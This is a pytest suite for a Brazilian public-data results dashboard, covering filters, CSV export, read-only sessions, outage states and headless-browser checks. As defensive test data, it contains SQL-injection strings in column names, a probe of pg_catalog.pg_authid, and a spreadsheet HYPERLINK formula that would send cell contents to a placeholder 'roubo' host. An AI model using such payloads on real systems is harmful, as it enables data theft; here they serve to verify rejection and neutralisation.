"""The results app: queries, callbacks' view functions, export, empty and database-down
states, and an end-to-end run in headless Chromium against data from the real flows."""

import csv
import io
import os
import threading
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text
from sqlalchemy.exc import OperationalError

from pipelines.executors import parallel_executor
from pipelines.flows import capture_flow, historic_capture_flow, historic_materialize_flow, materialize_flow
from pipelines.results import views
from pipelines.results.app import create_app, db_down_banner
from pipelines.results.formatting import brl, duration, integer
from pipelines.results.queries import Column, ResultsRepository, UnknownTableError, filter_sql, make_engine, order_sql
from pipelines.settings import load_settings
from tests.conftest import query, run_flow
from tests.netproxy import Proxy

ROOT = Path(__file__).resolve().parent.parent
QUOTE = '"{}"'.format


@pytest.fixture(scope="module")
def filled(settings, portal):
    """A database filled by the real flows: capture, materialize, historic capture and
    materialize, and one failed capture."""
    import psycopg2

    conn = psycopg2.connect(**settings.postgres_dsn())
    conn.autocommit = True
    with conn.cursor() as cursor:
        cursor.execute("TRUNCATE raw.terceirizados, raw.terceirizados_quarentena, raw.capturas, logs.registros, "
                       "logs.execucoes")
    portal.faults.clear()
    assert run_flow(capture_flow, url=portal.page_url)[0].is_successful()
    assert run_flow(materialize_flow)[0].is_successful()
    assert run_flow(historic_capture_flow, executor=parallel_executor(settings), url=portal.page_url)[0].is_successful()
    assert run_flow(historic_materialize_flow)[0].is_successful()
    portal.faults[portal.file_path("terceirizados202405.xlsx")] = "404"
    failed, failed_id = run_flow(capture_flow, url=portal.page_url)
    portal.faults.clear()
    assert failed.is_failed()
    yield {"conn": conn, "failed_run": failed_id, "portal": portal}
    conn.close()


@pytest.fixture(scope="module")
def repo(settings):
    return ResultsRepository(make_engine(settings))


def test_brazilian_formats():
    assert brl(1234567.891) == "R$ 1.234.567,89"
    assert brl(0) == "R$ 0,00" and brl(None) == "—"
    assert integer(1574964) == "1.574.964"
    start = pd.Timestamp("2026-01-01 10:00:00", tz="UTC")
    assert duration(start, start + pd.Timedelta(seconds=75)) == "1m15s"
    assert duration(start, start + pd.Timedelta(hours=2, seconds=5)) == "2h00m05s"


def test_filters_and_sorting_are_bound_and_validated():
    columns = {"nome": Column("nome", "text", None), "valor": Column("valor", "numeric", None)}
    where, params = filter_sql({"nome": {"filterType": "text", "type": "contains", "filter": "50%_x"},
                                "valor": {"filterType": "number", "type": "greaterThan", "filter": 10}},
                               columns, QUOTE)
    assert where == ' WHERE CAST("nome" AS text) ILIKE :p0 AND "valor" > :p1'
    assert params == {"p0": "%50\\%\\_x%", "p1": 10}
    where, params = filter_sql({"valor": {"filterType": "number", "operator": "OR", "conditions": [
        {"filterType": "number", "type": "lessThan", "filter": 1},
        {"filterType": "number", "type": "inRange", "filter": 5, "filterTo": 9}]}}, columns, QUOTE)
    assert where == ' WHERE ("valor" < :p0 OR "valor" BETWEEN :p1 AND :p1b)' and params == {"p0": 1, "p1": 5, "p1b": 9}
    assert order_sql([{"colId": "valor", "sort": "desc"}], columns, QUOTE) == ' ORDER BY "valor" DESC NULLS LAST'
    with pytest.raises(UnknownTableError):
        filter_sql({'nome"; DROP TABLE x; --': {"type": "contains", "filter": "a"}}, columns, QUOTE)
    with pytest.raises(UnknownTableError):
        order_sql([{"colId": "1; select pg_sleep(10)", "sort": "asc"}], columns, QUOTE)


def test_pages_come_from_the_server_with_filters_sorting_and_counts(filled, repo):
    expected = filled["portal"].portal.expectations
    total = sum(e.loaded_rows for e in expected.values())
    rows, count = repo.page("staging", "historic_transformed", 0, 10, [{"colId": "valor_custo_mensal", "sort": "desc"}],
                            None)
    assert count == total and len(rows) == 10
    costs = [r["valor_custo_mensal"] for r in rows]
    assert costs == sorted(costs, reverse=True)
    [(top_cost,)] = query(filled["conn"], "SELECT max(valor_custo_mensal)::float FROM staging.historic_transformed")
    assert costs[0] == top_cost
    rows, count = repo.page("staging", "historic_transformed", 100, 200, None,
                            {"ano": {"filterType": "number", "type": "equals", "filter": 2022}})
    assert count == expected["2022-05"].loaded_rows and rows == []  # offset past the filtered rows
    _, count = repo.page("staging", "historic_transformed", 0, 100, None,
                         {"razao_social_empresa": {"filterType": "text", "type": "contains", "filter": "filial df"}})
    assert count == 4  # one repaired row per CSV period
    response, href = views.rows_response(repo, "raw.terceirizados_quarentena", {"startRow": 0, "endRow": 100})
    assert response["rowCount"] == sum(len(e.quarantined_lines) for e in expected.values())
    assert href.startswith("/exportar.csv?tabela=raw.terceirizados_quarentena")
    with pytest.raises(UnknownTableError):
        repo.page("pg_catalog", "pg_authid", 0, 10, None, None)


def test_column_headers_carry_type_and_description(filled, repo):
    defs = {d["field"]: d for d in views.column_defs(repo.columns("staging", "transformed"))}
    assert defs["valor_custo_mensal"]["headerName"] == "valor_custo_mensal (numeric)"
    assert "BRL" in defs["valor_custo_mensal"]["headerTooltip"]
    assert defs["valor_custo_mensal"]["filter"] == "agNumberColumnFilter"
    assert defs["cpf"]["filter"] == "agTextColumnFilter" and "LGPD" in defs["cpf"]["headerTooltip"]


def test_sessions_are_read_only(filled, repo):
    with pytest.raises(Exception, match="read-only transaction"):
        with repo.engine.connect() as conn:
            conn.execute(text("DELETE FROM raw.terceirizados"))
    assert query(filled["conn"], "SELECT count(*) > 0 FROM raw.terceirizados") == [(True,)]


def test_export_streams_the_filtered_rows(filled, settings, repo):
    app = create_app(settings, repo)
    client = app.server.test_client()
    href = views.export_href("staging.historic_transformed", [{"colId": "id_terceirizado", "sort": "asc"}],
                             {"ano": {"filterType": "number", "type": "equals", "filter": 2019}})
    response = client.get(href)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["ano", "mes", "id_terceirizado"]
    assert len(rows) - 1 == filled["portal"].portal.expectations["2019-01"].loaded_rows
    assert {r[0] for r in rows[1:]} == {"2019"}
    assert [r[2] for r in rows[1:]] == sorted(r[2] for r in rows[1:])
    assert client.get("/exportar.csv?tabela=pg_catalog.pg_authid").status_code == 400


def test_export_neutralises_formulas_and_keeps_negative_amounts(filled, settings, repo):
    """A formula in a text column of real data is exported as text ('=...), a negative
    numeric amount as the number it is."""
    conn = filled["conn"]
    formula = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
    [(worker, name, cost)] = query(conn, "SELECT id_terceirizado, nome_orgao, valor_custo_mensal "
                                         "FROM staging.transformed ORDER BY id_terceirizado LIMIT 1")
    with conn.cursor() as cursor:
        cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = -12.5 "
                       "WHERE id_terceirizado = %s", (formula, worker))
    try:
        client = create_app(settings, repo).server.test_client()
        response = client.get(views.export_href("staging.transformed", None, {
            "id_terceirizado": {"filterType": "text", "type": "equals", "filter": str(worker)}}))
        assert response.status_code == 200
        header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
        cells = dict(zip(header, row))
        assert cells["nome_orgao"] == "'" + formula
        assert cells["valor_custo_mensal"] == "-12.50"  # numeric(…, 2): a number, not prefixed
        assert cells["ano"] == "2024" and cells["id_terceirizado"] == str(worker)
    finally:
        with conn.cursor() as cursor:
            cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = %s "
                           "WHERE id_terceirizado = %s", (name, cost, worker))


def test_runs_and_logs_views(filled, repo):
    runs = views.runs_rows(repo.runs())
    by_state = {}
    for run in runs:
        by_state.setdefault(run["estado_final"], []).append(run)
    assert len(by_state["Failed"]) == 1 and len(by_state["Success"]) == 4
    historic = next(r for r in runs if r["nome_flow"].endswith("historic_capture"))
    expected = filled["portal"].portal.expectations
    # 2024-05 was loaded by the capture flow just before, so the historic run skipped it
    assert historic["linhas_carregadas"] == integer(sum(e.loaded_rows for k, e in expected.items() if k != "2024-05"))
    failed_logs = views.log_rows(repo.log_records(None, filled["failed_run"], "ERROR"))
    assert failed_logs and all(r["estado_execucao"] == "Failed" and r["nivel"] == "ERROR" for r in failed_logs)
    assert any("HTTP 404" in r["mensagem"] for r in failed_logs)
    options = views.run_options(repo.log_filters())
    assert any("✗" in o["label"] and o["value"] == filled["failed_run"] for o in options)


def test_charts_use_brazilian_money_format(filled, repo):
    source = repo.chart_source()
    assert source == "staging.historic_transformed"
    totals = repo.totals_by_period(source)
    assert totals["terceirizados"].tolist() == [e.loaded_rows for _, e in sorted(
        filled["portal"].portal.expectations.items())]
    figure = views.totals_figure(totals)
    assert figure.layout.separators == ",." and figure.layout.yaxis2.tickprefix == "R$ "
    assert figure.data[1].customdata[0].startswith("R$ ") and "," in figure.data[1].customdata[0]
    agencies = repo.top_by_cost(source, "nome_orgao", 2024, 5)
    assert len(agencies) == 10 and agencies["custo_total"].is_monotonic_decreasing
    salary = views.salary_figure(repo.salary_by_education(source, 2024, 5))
    assert {trace.name for trace in salary.data} >= {"ENSINO MEDIO COMPLETO"}
    with pytest.raises(UnknownTableError):
        repo.top_by_cost(source, "cpf", 2024, 5)


def test_empty_database_shows_the_empty_state(settings):
    import psycopg2
    from psycopg2 import sql

    name = settings.postgres_db + "_vazio"
    admin = psycopg2.connect(**settings.postgres_dsn("postgres"))
    admin.autocommit = True
    with admin.cursor() as cursor:
        cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
    try:
        empty = ResultsRepository(make_engine(load_settings({**os.environ, "POSTGRES_DB": name})))
        assert empty.columns("staging", "transformed") == []
        assert empty.chart_source() is None and empty.runs().empty and empty.log_filters() == {"flows": [], "runs": []}
        assert views.totals_figure(pd.DataFrame()).layout.annotations[0].text == views.EMPTY_TABLE_MESSAGE
        empty.engine.dispose()
    finally:
        with admin.cursor() as cursor:
            cursor.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(name)))
        admin.close()


def test_database_down_banner_and_recovery(filled, settings):
    proxy = Proxy(settings.postgres_port)
    proxied = load_settings({**os.environ, "POSTGRES_PORT": str(proxy.port)})
    repo = ResultsRepository(make_engine(proxied))
    repo.ping()
    proxy.cut()
    with pytest.raises(OperationalError) as down:
        repo.ping()
    banner = db_down_banner(proxied, down.value)
    assert f"Banco de dados indisponível em 127.0.0.1:{proxy.port}" in banner.children
    proxy.enabled = True
    repo.ping()  # the pool reconnects by itself
    assert repo.page("staging", "transformed", 0, 5, None, None)[1] > 0


# -- end to end in headless Chromium ------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]


@pytest.fixture(scope="module")
def served(filled, settings):
    from werkzeug.serving import make_server

    app = create_app(settings)
    server = make_server("127.0.0.1", 0, app.server, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "Chromium do Debian ausente: rode `make test` (instala o pacote chromium)"
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def screenshot(page, name):
    """Fresh screenshots for the README when SAVE_SCREENSHOTS=1."""
    if os.environ.get("SAVE_SCREENSHOTS") == "1":
        page.screenshot(path=str(ROOT / "images" / name), full_page=True)


def test_browser_shows_every_page(filled, served, browser):
    expected = filled["portal"].portal.expectations
    page = browser.new_page(viewport={"width": 1400, "height": 1000})

    page.goto(served + "/tabelas")
    page.wait_for_selector(".data-grid .ag-row")
    assert "ano (integer)" in page.inner_text(".data-grid .ag-header")
    assert f"of {expected['2024-05'].loaded_rows}" in page.inner_text(".data-grid .ag-paging-row-summary-panel")
    assert "Código SIAFI da unidade gestora" in page.inner_text("#dictionary")
    screenshot(page, "resultados_tabelas.png")

    page.click("#table-select")
    page.get_by_text("Histórico (staging.historic_transformed)").click()
    page.wait_for_function("document.querySelector('.data-grid .ag-paging-row-summary-panel') && document.querySelector("
                           f"'.data-grid .ag-paging-row-summary-panel').innerText.includes('of {sum(e.loaded_rows for e in expected.values())}')")
    assert "historic_transformed" in page.get_attribute(".export-link", "href")

    page.goto(served + "/logs")
    page.wait_for_selector("#logs-grid .ag-row")
    assert "adm_cgu_terceirizados__" in page.inner_text("#logs-grid")
    assert "registros mais recentes" in page.inner_text("#logs-info")
    screenshot(page, "resultados_logs.png")

    page.goto(served + "/execucoes")
    page.wait_for_selector("#runs-grid .ag-row")
    assert "5 execuções, 1 com falha" in page.inner_text("#runs-info")
    grid_text = page.inner_text("#runs-grid")
    assert "Failed" in grid_text and "Success" in grid_text
    screenshot(page, "resultados_execucoes.png")

    page.goto(served + "/graficos")
    page.wait_for_selector("#chart-salary .main-svg")
    page.wait_for_function("document.querySelector('#chart-agencies').innerText.includes('R$')")
    assert "Terceirizados e custo mensal total por período" in page.inner_text("#chart-totals")
    assert "Órgãos com maior custo mensal (05/2024)" in page.inner_text("#chart-agencies")
    screenshot(page, "resultados_graficos.png")
    page.close()


def test_browser_empty_state(served, browser, filled):
    conn = filled["conn"]
    with conn.cursor() as cursor:
        cursor.execute("ALTER TABLE raw.terceirizados_quarentena RENAME TO quarentena_guardada")
        cursor.execute("CREATE TABLE raw.terceirizados_quarentena (LIKE raw.quarentena_guardada)")
    try:
        page = browser.new_page()
        page.goto(served + "/tabelas")
        page.wait_for_selector(".data-grid .ag-row")
        page.click("#table-select")
        page.get_by_text("Quarentena (raw.terceirizados_quarentena)").click()
        page.wait_for_selector("#empty-table")
        assert "Dados para esta tabela ainda não foram capturados" in page.inner_text("#empty-table")
        page.close()
    finally:
        with conn.cursor() as cursor:
            cursor.execute("DROP TABLE raw.terceirizados_quarentena")
            cursor.execute("ALTER TABLE raw.quarentena_guardada RENAME TO terceirizados_quarentena")
